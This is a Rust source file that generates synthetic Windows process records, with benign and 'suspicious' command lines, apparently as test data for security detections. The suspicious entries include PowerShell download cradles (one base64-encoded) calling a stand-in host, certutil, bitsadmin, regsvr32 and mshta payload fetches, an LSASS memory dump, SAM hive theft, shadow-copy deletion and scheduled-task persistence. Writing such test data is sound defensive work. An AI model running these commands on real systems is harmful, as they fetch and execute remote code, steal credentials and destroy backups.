//! The process pool: the Windows binaries (`BINS`), the ways they run with their usual parent
//! and command line (`VARIANTS`, benign and suspicious), and the generator of image names,
//! paths, device paths, expanded command lines, parents and path-derived hashes.

use std::fmt::Write as _;

use super::rng::{Gen, fnv1a, kind_key, push_hex, push_uuid, splitmix64};
use super::{EntityKind, Pool};

/// A Windows binary: image name and full path.
struct Bin {
    name: &'static str,
    path: &'static str,
}

const fn bin(name: &'static str, path: &'static str) -> Bin {
    Bin { name, path }
}

/// Every binary a process entity or its parent can be.
const BINS: &[Bin] = &[
    bin("smss.exe", r"C:\Windows\System32\smss.exe"),
    bin("wininit.exe", r"C:\Windows\System32\wininit.exe"),
    bin("winlogon.exe", r"C:\Windows\System32\winlogon.exe"),
    bin("services.exe", r"C:\Windows\System32\services.exe"),
    bin("lsass.exe", r"C:\Windows\System32\lsass.exe"),
    bin("userinit.exe", r"C:\Windows\System32\userinit.exe"),
    bin("explorer.exe", r"C:\Windows\explorer.exe"),
    bin("svchost.exe", r"C:\Windows\System32\svchost.exe"),
    bin("conhost.exe", r"C:\Windows\System32\conhost.exe"),
    bin(
        "RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe",
    ),
    bin("dllhost.exe", r"C:\Windows\System32\dllhost.exe"),
    bin("taskhostw.exe", r"C:\Windows\System32\taskhostw.exe"),
    bin("sihost.exe", r"C:\Windows\System32\sihost.exe"),
    bin("ctfmon.exe", r"C:\Windows\System32\ctfmon.exe"),
    bin("smartscreen.exe", r"C:\Windows\System32\smartscreen.exe"),
    bin(
        "SearchIndexer.exe",
        r"C:\Windows\System32\SearchIndexer.exe",
    ),
    bin(
        "SearchProtocolHost.exe",
        r"C:\Windows\System32\SearchProtocolHost.exe",
    ),
    bin(
        "backgroundTaskHost.exe",
        r"C:\Windows\System32\backgroundTaskHost.exe",
    ),
    bin("spoolsv.exe", r"C:\Windows\System32\spoolsv.exe"),
    bin("msiexec.exe", r"C:\Windows\System32\msiexec.exe"),
    bin("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe"),
    bin("WMIC.exe", r"C:\Windows\System32\wbem\WMIC.exe"),
    bin("cmd.exe", r"C:\Windows\System32\cmd.exe"),
    bin(
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    ),
    bin("rundll32.exe", r"C:\Windows\System32\rundll32.exe"),
    bin("regsvr32.exe", r"C:\Windows\System32\regsvr32.exe"),
    bin("certutil.exe", r"C:\Windows\System32\certutil.exe"),
    bin("mshta.exe", r"C:\Windows\System32\mshta.exe"),
    bin("wscript.exe", r"C:\Windows\System32\wscript.exe"),
    bin("schtasks.exe", r"C:\Windows\System32\schtasks.exe"),
    bin("net.exe", r"C:\Windows\System32\net.exe"),
    bin("whoami.exe", r"C:\Windows\System32\whoami.exe"),
    bin("nltest.exe", r"C:\Windows\System32\nltest.exe"),
    bin("ipconfig.exe", r"C:\Windows\System32\ipconfig.exe"),
    bin("reg.exe", r"C:\Windows\System32\reg.exe"),
    bin("vssadmin.exe", r"C:\Windows\System32\vssadmin.exe"),
    bin("bitsadmin.exe", r"C:\Windows\System32\bitsadmin.exe"),
    bin("gpupdate.exe", r"C:\Windows\System32\gpupdate.exe"),
    bin("notepad.exe", r"C:\Windows\System32\notepad.exe"),
    bin("mstsc.exe", r"C:\Windows\System32\mstsc.exe"),
    bin(
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    ),
    bin(
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    ),
    bin(
        "msedgewebview2.exe",
        r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\136.0.3240.64\msedgewebview2.exe",
    ),
    bin(
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    ),
    bin(
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ),
    bin(
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
    ),
    bin(
        "POWERPNT.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE",
    ),
    bin(
        "ms-teams.exe",
        r"C:\Program Files\WindowsApps\MSTeams_25122.1415.3698.6812_x64__8wekyb3d8bbwe\ms-teams.exe",
    ),
    bin(
        "OneDrive.exe",
        r"C:\Program Files\Microsoft OneDrive\OneDrive.exe",
    ),
    bin(
        "MsMpEng.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25040.2-0\MsMpEng.exe",
    ),
    bin(
        "MpCmdRun.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25040.2-0\MpCmdRun.exe",
    ),
    bin("CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe"),
];

/// One way a binary runs: its command line, its usual parent and how common it is.
/// Command line placeholders: `{s}` a small number (4-250), `{n}` a 3-4 digit number,
/// `{t}` a 10-11 digit number,
/// `{h}` 5 hex digits, `{g}` a lower-case UUID.
struct Variant {
    bin: &'static str,
    parent: &'static str,
    weight: u32,
    suspicious: bool,
    cmd: &'static str,
}

const fn ok(bin: &'static str, parent: &'static str, weight: u32, cmd: &'static str) -> Variant {
    Variant {
        bin,
        parent,
        weight,
        suspicious: false,
        cmd,
    }
}

const fn bad(bin: &'static str, parent: &'static str, weight: u32, cmd: &'static str) -> Variant {
    Variant {
        bin,
        parent,
        weight,
        suspicious: true,
        cmd,
    }
}

/// An encoded download cradle: the base64 is UTF-16LE
/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')`.
const PS_ENC_DOWNLOAD: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA=";

#[rustfmt::skip]
const VARIANTS: &[Variant] = &[
    // Service host and the rest of the always-running system.
    ok("svchost.exe", "services.exe", 40, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    ok("svchost.exe", "services.exe", 30, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    ok("svchost.exe", "services.exe", 25, r"C:\Windows\system32\svchost.exe -k RPCSS -p"),
    ok("svchost.exe", "services.exe", 22, r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog"),
    ok("svchost.exe", "services.exe", 22, r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache"),
    ok("svchost.exe", "services.exe", 18, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS"),
    ok("svchost.exe", "services.exe", 16, r"C:\Windows\system32\svchost.exe -k wsappx -p -s AppXSvc"),
    ok("svchost.exe", "services.exe", 15, r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService_{h}"),
    ok("svchost.exe", "services.exe", 14, r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain"),
    ok("svchost.exe", "services.exe", 14, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"),
    ok("RuntimeBroker.exe", "svchost.exe", 30, r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    ok("dllhost.exe", "svchost.exe", 22, r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
    ok("dllhost.exe", "svchost.exe", 10, r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"),
    ok("taskhostw.exe", "svchost.exe", 18, "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
    ok("taskhostw.exe", "svchost.exe", 10, "taskhostw.exe Install $(Arg0)"),
    ok("taskhostw.exe", "svchost.exe", 6, "taskhostw.exe SYSTEM"),
    ok("sihost.exe", "svchost.exe", 8, "sihost.exe"),
    ok("ctfmon.exe", "svchost.exe", 8, r"C:\Windows\system32\ctfmon.exe"),
    ok("smartscreen.exe", "svchost.exe", 8, r"C:\Windows\System32\smartscreen.exe -Embedding"),
    ok("backgroundTaskHost.exe", "svchost.exe", 8, r"C:\Windows\system32\backgroundTaskHost.exe -ServerName:BackgroundTaskHost.WebAccountProvider"),
    ok("WmiPrvSE.exe", "svchost.exe", 14, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    ok("WmiPrvSE.exe", "svchost.exe", 8, r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
    ok("SearchIndexer.exe", "services.exe", 4, r"C:\Windows\system32\SearchIndexer.exe /Embedding"),
    ok("SearchProtocolHost.exe", "SearchIndexer.exe", 10, r"C:\Windows\system32\SearchProtocolHost.exe Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646"),
    ok("spoolsv.exe", "services.exe", 4, r"C:\Windows\System32\spoolsv.exe"),
    ok("MsMpEng.exe", "services.exe", 8, "MsMpEng.exe"),
    ok("MpCmdRun.exe", "svchost.exe", 4, "MpCmdRun.exe -IdleTask -TaskName WdCacheMaintenance"),
    ok("MpCmdRun.exe", "MsMpEng.exe", 3, "MpCmdRun.exe SignaturesUpdateService -ScheduleJob -UnmanagedUpdate"),
    ok("CcmExec.exe", "services.exe", 5, r"C:\Windows\CCM\CcmExec.exe"),
    ok("msiexec.exe", "services.exe", 5, r"C:\Windows\system32\msiexec.exe /V"),
    ok("msiexec.exe", "CcmExec.exe", 3, r"msiexec.exe /i C:\Windows\ccmcache\3f\setup.msi /qn /norestart"),
    ok("lsass.exe", "wininit.exe", 2, r"C:\Windows\system32\lsass.exe"),
    ok("services.exe", "wininit.exe", 2, r"C:\Windows\system32\services.exe"),
    ok("userinit.exe", "winlogon.exe", 3, r"C:\Windows\system32\userinit.exe"),
    ok("winlogon.exe", "smss.exe", 2, "winlogon.exe"),
    ok("wininit.exe", "smss.exe", 1, "wininit.exe"),
    ok("conhost.exe", "cmd.exe", 36, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    ok("conhost.exe", "powershell.exe", 14, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    // The user's desktop.
    ok("explorer.exe", "userinit.exe", 14, r"C:\Windows\Explorer.EXE"),
    ok("chrome.exe", "explorer.exe", 15, "chrome.exe --profile-directory=Default"),
    ok("chrome.exe", "chrome.exe", 48, "chrome.exe --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={s} --launch-time-ticks={t} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("chrome.exe", "chrome.exe", 18, "chrome.exe --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:11"),
    ok("chrome.exe", "chrome.exe", 8, "chrome.exe --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= --mojo-platform-channel-handle={n} /prefetch:2"),
    ok("msedge.exe", "explorer.exe", 14, "msedge.exe --profile-directory=Default"),
    ok("msedge.exe", "explorer.exe", 5, "msedge.exe --no-startup-window --win-session-start"),
    ok("msedge.exe", "msedge.exe", 42, "msedge.exe --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={s} --launch-time-ticks={t} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("msedge.exe", "msedge.exe", 14, "msedge.exe --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:11"),
    ok("msedgewebview2.exe", "ms-teams.exe", 14, "msedgewebview2.exe --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --type=renderer --lang=en-US --renderer-client-id={s} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("ms-teams.exe", "explorer.exe", 12, "ms-teams.exe"),
    ok("ms-teams.exe", "explorer.exe", 8, "ms-teams.exe msteams:system-initiated"),
    ok("OUTLOOK.EXE", "explorer.exe", 24, "OUTLOOK.EXE"),
    ok("OUTLOOK.EXE", "explorer.exe", 4, "OUTLOOK.EXE /recycle"),
    ok("WINWORD.EXE", "explorer.exe", 12, "WINWORD.EXE /n"),
    ok("WINWORD.EXE", "svchost.exe", 4, "WINWORD.EXE /Automation -Embedding"),
    ok("EXCEL.EXE", "explorer.exe", 12, "EXCEL.EXE"),
    ok("EXCEL.EXE", "svchost.exe", 4, "EXCEL.EXE /automation -Embedding"),
    ok("POWERPNT.EXE", "explorer.exe", 5, "POWERPNT.EXE"),
    ok("OneDrive.exe", "explorer.exe", 12, "OneDrive.exe /background"),
    ok("notepad.exe", "explorer.exe", 5, r"C:\Windows\system32\notepad.exe"),
    ok("mstsc.exe", "explorer.exe", 3, r"C:\Windows\system32\mstsc.exe"),
    // Admin and scripting tools, mostly benign.
    ok("cmd.exe", "explorer.exe", 12, r"C:\Windows\system32\cmd.exe"),
    ok("cmd.exe", "userinit.exe", 5, r"C:\Windows\system32\cmd.exe /c \\corp.example.com\NETLOGON\logon.bat"),
    ok("cmd.exe", "explorer.exe", 4, "cmd.exe /c ipconfig /all"),
    ok("powershell.exe", "explorer.exe", 10, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    ok("powershell.exe", "CcmExec.exe", 8, r"powershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass -File C:\Windows\CCM\SystemTemp\{g}.ps1"),
    ok("powershell.exe", "svchost.exe", 6, r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\IT\Scripts\Get-Inventory.ps1"),
    ok("powershell.exe", "explorer.exe", 2, "powershell.exe -NoProfile -Command Get-ADComputer -Filter * -Properties OperatingSystem"),
    ok("wscript.exe", "userinit.exe", 2, r"wscript.exe //B //Nologo \\corp.example.com\NETLOGON\map-drives.vbs"),
    ok("net.exe", "cmd.exe", 3, r"net.exe use Z: \\FS-01\shared /persistent:yes"),
    ok("whoami.exe", "cmd.exe", 2, "whoami.exe"),
    ok("ipconfig.exe", "cmd.exe", 3, "ipconfig.exe /all"),
    ok("ipconfig.exe", "cmd.exe", 2, "ipconfig.exe /flushdns"),
    ok("gpupdate.exe", "cmd.exe", 2, "gpupdate.exe /force"),
    ok("reg.exe", "cmd.exe", 2, r"reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"),
    ok("schtasks.exe", "cmd.exe", 2, "schtasks.exe /query /fo LIST /v"),
    ok("certutil.exe", "cmd.exe", 2, "certutil.exe -store My"),
    ok("rundll32.exe", "svchost.exe", 6, r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask"),
    ok("rundll32.exe", "svchost.exe", 4, r"C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding"),
    ok("rundll32.exe", "explorer.exe", 3, r"C:\Windows\system32\rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
    ok("regsvr32.exe", "msiexec.exe", 2, r"regsvr32.exe /s C:\Windows\System32\msxml3.dll"),
    ok("WMIC.exe", "cmd.exe", 2, "wmic.exe computersystem get name,domain"),
    ok("vssadmin.exe", "cmd.exe", 1, "vssadmin.exe list shadows"),
    // Suspicious: the handful of command lines a detection should fire on.
    bad("powershell.exe", "cmd.exe", 2, PS_ENC_DOWNLOAD),
    bad("powershell.exe", "WINWORD.EXE", 1, PS_ENC_DOWNLOAD),
    bad("powershell.exe", "cmd.exe", 1, "powershell.exe -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"),
    bad("cmd.exe", "WINWORD.EXE", 1, "cmd.exe /c start /min powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA="),
    bad("cmd.exe", "WmiPrvSE.exe", 1, r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__{t}.{n} 2>&1"),
    bad("certutil.exe", "cmd.exe", 1, r"certutil.exe -urlcache -split -f http://203.0.113.77/update.exe C:\Users\Public\update.exe"),
    bad("certutil.exe", "cmd.exe", 1, r"certutil.exe -decode C:\Users\Public\enc.txt C:\Users\Public\run.exe"),
    bad("mshta.exe", "explorer.exe", 1, "mshta.exe http://update.example.org/invoice.hta"),
    bad("rundll32.exe", "cmd.exe", 1, r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full"),
    bad("rundll32.exe", "cmd.exe", 1, r"rundll32.exe C:\Users\Public\Libraries\update.dll,DllRegisterServer"),
    bad("regsvr32.exe", "cmd.exe", 1, "regsvr32.exe /s /n /u /i:http://203.0.113.77/file.sct scrobj.dll"),
    bad("wscript.exe", "explorer.exe", 1, r"wscript.exe C:\Users\Public\Downloads\Invoice_{n}.js"),
    bad("schtasks.exe", "cmd.exe", 1, r"schtasks.exe /create /sc minute /mo 30 /tn WindowsUpdateCheck /tr C:\Users\Public\update.exe /f"),
    bad("net.exe", "cmd.exe", 1, "net.exe user /domain"),
    bad("net.exe", "cmd.exe", 1, "net.exe localgroup administrators"),
    bad("whoami.exe", "cmd.exe", 1, "whoami.exe /all"),
    bad("whoami.exe", "powershell.exe", 1, "whoami.exe /priv"),
    bad("nltest.exe", "cmd.exe", 1, "nltest.exe /dclist:corp.example.com"),
    bad("nltest.exe", "cmd.exe", 1, "nltest.exe /domain_trusts /all_trusts"),
    bad("reg.exe", "cmd.exe", 1, r"reg.exe save HKLM\SAM C:\Windows\Temp\sam.save"),
    bad("vssadmin.exe", "cmd.exe", 1, "vssadmin.exe delete shadows /all /quiet"),
    bad("WMIC.exe", "cmd.exe", 1, "wmic.exe shadowcopy delete /nointeractive"),
    bad("bitsadmin.exe", "cmd.exe", 1, r"bitsadmin.exe /transfer job1 /download /priority high http://203.0.113.77/a.exe C:\Users\Public\a.exe"),
];

/// The first entities are the busiest; they are always drawn from the benign variants.
const BENIGN_HEAD: usize = 16;

#[allow(
    clippy::panic,
    reason = "name is always a literal from this file's own VARIANTS table; a missing one fails \
              every entity test"
)]
fn find_bin(name: &str) -> &'static Bin {
    BINS.iter()
        .find(|b| b.name == name)
        .unwrap_or_else(|| panic!("process table: no binary {name}"))
}

/// `\Device\HarddiskVolume3\…` form of a `C:\…` path.
fn push_device_path(s: &mut String, path: &str) {
    s.push_str(r"\Device\HarddiskVolume3\");
    s.push_str(path.strip_prefix(r"C:\").unwrap_or(path));
}

/// Hex digest-shaped text derived from the path alone (the same binary always has the same
/// hashes, whatever the seed): `words` 64-bit words.
fn push_path_hash(s: &mut String, path: &str, salt: u64, words: usize) {
    let mut h = fnv1a(path) ^ salt;
    for _ in 0..words {
        h = splitmix64(h);
        push_hex(s, h, 16, false);
    }
}

/// Expands the command line placeholders of `cmd` into `out`.
fn push_cmdline(out: &mut String, cmd: &str, g: &mut Gen) {
    let mut rest = cmd;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        if let Some(t) = tail.strip_prefix("{s}") {
            let _ = write!(out, "{}", g.range(4, 250));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{n}") {
            let _ = write!(out, "{}", g.range(100, 9_999));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{t}") {
            let _ = write!(out, "{}", g.range(1_000_000_000, 99_999_999_999));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{h}") {
            push_hex(out, g.next(), 5, false);
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{g}") {
            push_uuid(out, g);
            rest = t;
        } else {
            out.push('{');
            rest = &tail[1..];
        }
    }
    out.push_str(rest);
}

pub(super) fn gen_processes(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::Process);
    let mut pool = Pool::new(EntityKind::Process, n, &[12, 50, 60, 90, 12, 40, 64, 32]);
    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let head = i < BENIGN_HEAD;
        let v = &VARIANTS[g.weighted(
            VARIANTS,
            |v| {
                if head && v.suspicious { 0 } else { v.weight }
            },
        )];
        let b = find_bin(v.bin);
        let p = find_bin(v.parent);
        let c = &mut pool.cols;
        c[0].push(b.name);
        c[1].push(b.path);
        push_device_path(&mut c[2].data, b.path);
        c[2].end();
        push_cmdline(&mut c[3].data, v.cmd, &mut g);
        c[3].end();
        c[4].push(p.name);
        c[5].push(p.path);
        push_path_hash(&mut c[6].data, b.path, 0x5348_4132_3536, 4);
        c[6].end();
        push_path_hash(&mut c[7].data, b.path, 0x004d_4435, 2);
        c[7].end();
    }
    pool.check_complete();
    pool
}

#[cfg(test)]
mod tests {
    use std::collections::{HashMap, HashSet};

    use super::super::Entities;
    use super::super::test_support::*;
    use super::*;

    #[test]
    fn tables_are_clean() {
        for v in VARIANTS {
            assert!(v.weight > 0);
            find_bin(v.bin);
            find_bin(v.parent);
            assert!(
                !v.cmd.contains('"') && !v.cmd.chars().any(char::is_control),
                "{}",
                v.cmd
            );
        }
        for b in BINS {
            assert!(
                b.path.starts_with(r"C:\") && b.path.ends_with(b.name),
                "{}",
                b.path
            );
        }
    }

    #[test]
    fn process_formats_and_stable_hashes() {
        let a = Entities::generate(29, &sizes(3000));
        let b = Entities::generate(31, &sizes(3000));
        let mut by_path: HashMap<String, (String, String)> = HashMap::new();
        let mut suspicious = 0;
        for e in [&a, &b] {
            let p = e.pool(EntityKind::Process);
            for i in 0..p.len() {
                let name = p.get(i, 0);
                let path = p.get(i, 1);
                assert!(path.ends_with(&format!(r"\{name}")), "{path}");
                assert_eq!(
                    p.get(i, 2),
                    format!(r"\Device\HarddiskVolume3\{}", &path[3..])
                );
                assert!(p.get(i, 5).ends_with(p.get(i, 4)));
                let (sha, md5) = (p.get(i, 6), p.get(i, 7));
                assert!(is_hex(sha, 64, false) && is_hex(md5, 32, false));
                let prev = by_path
                    .entry(path.to_string())
                    .or_insert((sha.into(), md5.into()));
                assert_eq!((prev.0.as_str(), prev.1.as_str()), (sha, md5), "{path}");
                let cmd = p.get(i, 3);
                assert!(
                    !cmd.contains('{')
                        || cmd.contains("{222A")
                        || cmd.contains("Processid:{")
                        || cmd.contains("{9aa4"),
                    "{cmd}"
                );
                if cmd.contains(" -enc ") || cmd.contains("-urlcache") || cmd.contains("MiniDump") {
                    suspicious += 1;
                }
            }
            for i in 0..BENIGN_HEAD {
                let cmd = p.get(i, 3);
                assert!(
                    VARIANTS
                        .iter()
                        .any(|v| !v.suspicious && (v.cmd == cmd || v.cmd.contains('{')))
                );
                assert!(
                    !cmd.contains(" -enc ") && !cmd.contains("203.0.113."),
                    "{cmd}"
                );
            }
        }
        assert!(suspicious > 0 && suspicious < 6000 / 20, "{suspicious}");
        let distinct: HashSet<&str> = (0..3000)
            .map(|i| a.pool(EntityKind::Process).get(i, 0))
            .collect();
        assert!(distinct.len() > 30);
        // Common benign processes dominate.
        let svchost = column(a.pool(EntityKind::Process), "name")
            .iter()
            .filter(|n| *n == "svchost.exe")
            .count();
        assert!(svchost > 3000 / 10, "{svchost}");
    }
}
